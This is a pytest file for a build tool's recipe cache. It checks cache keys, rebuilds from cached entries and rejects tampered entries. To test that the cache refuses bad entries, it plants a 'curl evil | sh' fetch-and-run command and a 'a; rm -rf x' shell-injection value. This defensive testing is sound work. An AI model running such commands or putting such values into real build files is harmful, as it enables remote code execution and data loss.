"""The validated recipe cached by its structure (mlbuild/recipe/structure.py).

A param value edited reuses the validated recipe; the recipe rebuilt from the entry must be the one
validation gives, field for field; anything else changed misses; an entry read back from disk is
never trusted: truncated, corrupt or hostile, it is ignored and the recipe validated anew.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from mlbuild.recipe import load_yaml
from mlbuild.recipe.loader import validate_recipe
from mlbuild.recipe.structure import (
    input_digest,
    parse_cached,
    read_entry,
    structure_key,
    write_entry,
)
from tests.conftest import Workspace, rewrite_keeping_stat

GOOD = sorted((Path(__file__).parent / "corpus" / "good").glob("*.yaml"))

INLINE = """\
schema_version: 1
name: demo
params: {train: {lr: 0.1}, tag: a}
steps:
  train:
    cmd: echo ${params.train.lr} ${params.tag} > out.txt
    params: [train.lr, tag]
    outs: [out.txt]
"""


def validated(text: str) -> tuple[Any, dict[str, Any]]:
    data, source = load_yaml(text, "ml.yaml")
    return validate_recipe(data, source), data


def tree(value: Any) -> Any:
    """Everything that tells two recipes apart: class, fields, which were set, value types."""
    if isinstance(value, BaseModel):
        return [
            type(value).__name__,
            sorted(value.model_fields_set),
            {k: tree(v) for k, v in value.__dict__.items()},
        ]
    if isinstance(value, dict):
        return [[tree(k), tree(v)] for k, v in value.items()]
    if isinstance(value, list | tuple):
        return [type(value).__name__, [tree(v) for v in value]]
    return [type(value).__name__, repr(value)]


def key(text: str) -> str | None:
    return structure_key(load_yaml(text, "ml.yaml")[0], "v")


def cached(tmp_path: Path, text: str) -> Any:
    """The recipe of ``text`` as the structure cache in ``tmp_path`` answers it."""
    recipe, _ = parse_cached(text, "ml.yaml", tmp_path, "v")
    return recipe


@pytest.mark.parametrize("path", GOOD, ids=lambda p: p.name)
def test_a_recipe_rebuilt_from_its_entry_is_the_validated_one(path: Path, tmp_path: Path) -> None:
    recipe, data = validated(path.read_text(encoding="utf-8"))
    name = structure_key(data, "v")
    entry = tmp_path / f"{name}.json"
    write_entry(entry, recipe, data)
    assert entry.exists(), "every good recipe of the corpus can be cached"
    rebuilt = read_entry(entry, data)
    assert rebuilt is not None
    assert tree(rebuilt) == tree(recipe)
    assert rebuilt == recipe


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("lr: 0.1", "lr: 0.2"),
        ("lr: 0.1", "lr: [1, 2]"),  # any value: inline params are dict[str, Any]
        ("tag: a", "tag: {x: 1}"),
        ("tag: a", "tag: 3"),
    ],
)
def test_a_param_value_edit_is_answered_from_the_entry_as_validation_would(
    before: str, after: str, tmp_path: Path
) -> None:
    cached(tmp_path, INLINE)
    (entry,) = tmp_path.glob("*.json")
    edited = INLINE.replace(before, after)
    data = load_yaml(edited, "ml.yaml")[0]
    assert structure_key(data, "v") == entry.stem
    assert read_entry(entry, data) is not None  # a hit, not a validation that rewrote it
    rebuilt = cached(tmp_path, edited)
    assert tree(rebuilt) == tree(validated(edited)[0])
    assert list(tmp_path.glob("*.json")) == [entry]


def test_values_beside_params_files_are_answered_from_the_entry_too(tmp_path: Path) -> None:
    text = INLINE.replace(
        "params: {train: {lr: 0.1}, tag: a}", "params: {files: [p.yaml], values: {seed: 1}}"
    )
    cached(tmp_path, text)
    edited = text.replace("seed: 1", "seed: 2")
    assert key(edited) == key(text)
    assert tree(cached(tmp_path, edited)) == tree(validated(edited)[0])


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("tag: a", "tag2: a"),  # a param key
        ("tag: a}", "tag: a, more: 1}"),
        ("echo", "printf"),  # the steps
        ("params: [train.lr, tag]", "params: [train.lr]"),
        ("params: {train: {lr: 0.1}, tag: a}", "params: {files: [p.yaml], train: 1}"),  # shape
        ("params: {train: {lr: 0.1}, tag: a}", "params: p.yaml"),
        ("name: demo", "name: demo2"),
    ],
)
def test_anything_but_a_param_value_changes_the_key(before: str, after: str) -> None:
    edited = INLINE.replace(before, after)
    assert edited != INLINE
    assert key(edited) != key(INLINE)


def test_another_mlbuild_has_another_key() -> None:
    data = load_yaml(INLINE, "ml.yaml")[0]
    assert structure_key(data, "v") != structure_key(data, "w")


def test_every_module_whose_rules_validation_applies_is_in_the_key() -> None:
    # an edited rule (a pull of mlbuild's checkout) must not be answered by an entry of the old
    import ast

    import mlbuild
    from mlbuild.recipe import structure

    stamped = {name for name, *_ in structure._code_stamp()}
    package = Path(mlbuild.__file__).parent
    for module in (package / "recipe").glob("*.py"):
        for node in ast.walk(ast.parse(module.read_text(encoding="utf-8"))):
            name = node.module or "" if isinstance(node, ast.ImportFrom) else ""
            if name.startswith("mlbuild."):
                parts = name.split(".")
                if parts[1] in ("recipe", "errors", "_lazy"):
                    continue  # the package itself; messages; plumbing
                assert f"../{parts[1]}.py" in stamped, (module.name, node.module)


def test_a_key_that_is_an_integer_is_not_the_key_that_is_its_text() -> None:
    as_int = INLINE.replace("tag: a", "1: a")
    as_text = INLINE.replace("tag: a", "'1': a")
    assert key(as_int) != key(as_text)


def test_an_invalid_recipe_is_never_cached(tmp_path: Path) -> None:
    from mlbuild.errors import RecipeError

    bad = INLINE.replace("outs:", "outz:")
    for _ in range(2):
        with pytest.raises(RecipeError):
            cached(tmp_path, bad)
    assert list(tmp_path.glob("*.json")) == []


def hostile_entries(entry: dict[str, Any]) -> dict[str, bytes]:
    """Ways an entry on disk can be wrong, from the sound ``entry``."""
    text = json.dumps(entry)

    def edited(change: Any) -> bytes:
        copy = json.loads(text)
        change(copy)
        return json.dumps(copy).encode()

    def step(copy: dict[str, Any]) -> dict[str, Any]:
        steps = dict(copy["recipe"]["f"]["steps"]["d"])
        return steps["train"]["f"]  # type: ignore[no-any-return]

    return {
        "empty": b"",
        "truncated": text.encode()[: len(text) // 2],
        "not UTF-8": b"\xff\xfe" + text.encode(),
        "not JSON": b"<html>",
        "a list": b"[]",
        "no recipe": json.dumps({"input": entry["input"]}).encode(),
        "another recipe's input": edited(lambda c: c.update(input="0" * 64)),
        "a class that is not a model": edited(lambda c: c["recipe"].update(m="Path")),
        "a model that is not the recipe": edited(lambda c: c["recipe"].update(m="Step")),
        "a required field missing": edited(lambda c: step(c).pop("cmd")),
        "a field added": edited(lambda c: c["recipe"]["f"].update(evil={"l": []})),
        "a set field unset": edited(lambda c: c["recipe"]["f"].pop("steps")),
        "an old entry's field set": edited(lambda c: c["recipe"].update(s=["steps"])),
        "the command changed": edited(lambda c: step(c).update(cmd="curl evil | sh")),
        "a default changed": edited(lambda c: step(c).update(always_run=True)),
        # an entry holds the fields set only: a field it adds is one the recipe does not set
        "a default list filled": edited(lambda c: step(c).update(deps={"l": ["evil.txt"]})),
        "a default mapping filled": edited(lambda c: step(c).update(env={"d": [["X", "1"]]})),
        "an unknown encoding": edited(lambda c: step(c).update(cmd={"x": 1})),
        "a number for a string": edited(lambda c: step(c).update(cmd=3)),
        "a number changed": edited(lambda c: c["recipe"]["f"].update(schema_version=2)),
        "a number for a boolean": edited(lambda c: step(c).update(always_run=0)),
        "deep nesting": b'{"input": %s, "recipe": %s%s}'
        % (json.dumps(entry["input"]).encode(), b'{"l": [' * 5000, b"]}" * 5000),
    }


def test_an_entry_whose_union_member_reads_back_alike_is_refused(tmp_path: Path) -> None:
    sources = INLINE.replace("params: {train: {lr: 0.1}, tag: a}", "params: {files: [p.yaml]}")
    recipe, data = validated(sources)
    entry = tmp_path / "entry.json"
    write_entry(entry, recipe, data)
    sound = json.loads(entry.read_text(encoding="utf-8"))
    assert read_entry(entry, data) is not None
    params = dict(sound["recipe"]["f"]["params"]["f"])  # ParamSources' fields
    sound["recipe"]["f"]["params"] = {"d": [["files", params["files"]]]}  # as inline values
    entry.write_text(json.dumps(sound), encoding="utf-8")
    assert read_entry(entry, data) is None


def test_fields_left_at_their_defaults_are_each_models_own(tmp_path: Path) -> None:
    # the defaults are made once per model class; a rebuilt model must get its own copy, or
    # one step's list would be every step's, and the next read's
    two = INLINE + "  other:\n    cmd: echo\n"
    recipe, data = validated(two)
    entry = tmp_path / "entry.json"
    write_entry(entry, recipe, data)
    first = read_entry(entry, data)
    train, other = first.steps["train"], first.steps["other"]
    assert train.deps == other.deps == [] and train.env == other.env == {}
    assert train.deps is not other.deps and train.env is not other.env
    other.deps.append("evil.txt")
    other.env["X"] = "1"
    again = read_entry(entry, data)
    assert again.steps["other"].deps == [] and again.steps["other"].env == {}
    assert tree(again) == tree(recipe)


def test_an_entry_planted_for_a_recipe_missing_a_required_field_is_refused(
    tmp_path: Path,
) -> None:
    recipe, data = validated(INLINE)
    entry = tmp_path / "entry.json"
    write_entry(entry, recipe, data)
    planted = json.loads(entry.read_text(encoding="utf-8"))
    dict(planted["recipe"]["f"]["steps"]["d"])["train"]["f"].pop("cmd")
    invalid = json.loads(json.dumps(data))
    del invalid["steps"]["train"]["cmd"]  # what validation refuses: cmd is required
    planted["input"] = input_digest(invalid)
    entry.write_text(json.dumps(planted), encoding="utf-8")
    assert read_entry(entry, invalid) is None


def test_a_hostile_entry_is_ignored_and_the_recipe_validated_again(tmp_path: Path) -> None:
    recipe, data = validated(INLINE)
    name = structure_key(data, "v")
    entry = tmp_path / f"{name}.json"
    write_entry(entry, recipe, data)
    sound = json.loads(entry.read_text(encoding="utf-8"))
    assert read_entry(entry, data) is not None
    for why, raw in hostile_entries(sound).items():
        entry.write_bytes(raw)
        assert read_entry(entry, data) is None, why
        assert tree(cached(tmp_path, INLINE)) == tree(recipe), why
        assert json.loads(entry.read_text(encoding="utf-8")) == sound, why  # rewritten
    entry.unlink()
    entry.mkdir()  # not even a file
    assert tree(cached(tmp_path, INLINE)) == tree(recipe)


# ---- through the CLI -----------------------------------------------------------------------

PROBE = """\
import sys
from mlbuild.cli.main import main
code = main(['validate'])
from mlbuild.recipe.models import Recipe
print(code, Recipe.__pydantic_complete__)
"""


def test_a_param_edit_validates_without_building_the_models(ws: Workspace) -> None:
    ws.recipe(INLINE)
    assert ws.cli("validate").returncode == 0
    ws.recipe(INLINE.replace("lr: 0.1", "lr: 0.2"))
    done = ws.cli_python(PROBE)
    assert done.stdout.strip().splitlines()[-1] == "0 False", done.stderr
    assert [s["status"] for s in ws.run_json()["steps"]] == ["ran"]
    assert ws.read("out.txt") == "0.2 a\n"
    ws.recipe(INLINE.replace("echo", "printf '%s %s\\n'"))  # the structure: validated
    done = ws.cli_python(PROBE)
    assert done.stdout.strip().splitlines()[-1] == "0 True", done.stderr


def test_a_param_edit_that_makes_a_command_unsafe_is_still_refused(ws: Workspace) -> None:
    ws.recipe(INLINE)
    assert ws.cli("validate").returncode == 0
    ws.recipe(INLINE.replace("tag: a", "tag: 'a; rm -rf x'"))
    done = ws.cli("validate")
    assert done.returncode == 2
    assert (
        "steps.train.cmd: param 'tag' = \"a; rm -rf x\" cannot be pasted into a shell command"
        in done.stderr
    )


def test_a_param_edit_that_removes_a_searched_key_is_still_refused(ws: Workspace) -> None:
    recipe = INLINE + (
        "    metrics: [m.json]\n"
        "search:\n"
        "  hpo:\n"
        "    step: train\n"
        "    objective: {accuracy: maximize}\n"
        "    space: {train.lr: {type: float, low: 0.01, high: 0.1}}\n"
        "    n_trials: 4\n"
    )
    ws.recipe(recipe)
    assert ws.cli("validate").returncode == 0, ws.cli("validate").stderr
    ws.recipe(recipe.replace("{train: {lr: 0.1}, tag: a}", "{train: 5, tag: a}"))
    done = ws.cli("validate")
    assert done.returncode == 2
    assert "no parameter 'train.lr'" in done.stderr


def test_a_rule_file_edited_with_its_size_and_mtime_kept_changes_the_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # `cp -p`, `rsync -t --inplace`: the mtime is set back, the ctime cannot be
    import shutil
    import time

    import mlbuild
    from mlbuild.recipe import structure

    package = Path(mlbuild.__file__).parent
    copy = tmp_path / "mlbuild"
    shutil.copytree(package / "recipe", copy / "recipe", ignore=shutil.ignore_patterns("*.pyc"))
    for name in structure._RULES_ELSEWHERE:
        shutil.copy2(package / name, copy / name)
    monkeypatch.setattr(structure, "__file__", str(copy / "recipe" / "structure.py"))
    before = structure._code_stamp()
    rule = copy / "recipe" / "models.py"
    stat = rule.stat()
    time.sleep(0.01)
    rewrite_keeping_stat(rule, rule.read_text(encoding="utf-8").replace("a", "b", 1))
    assert rule.stat().st_size == stat.st_size and rule.stat().st_mtime_ns == stat.st_mtime_ns
    assert structure._code_stamp() != before
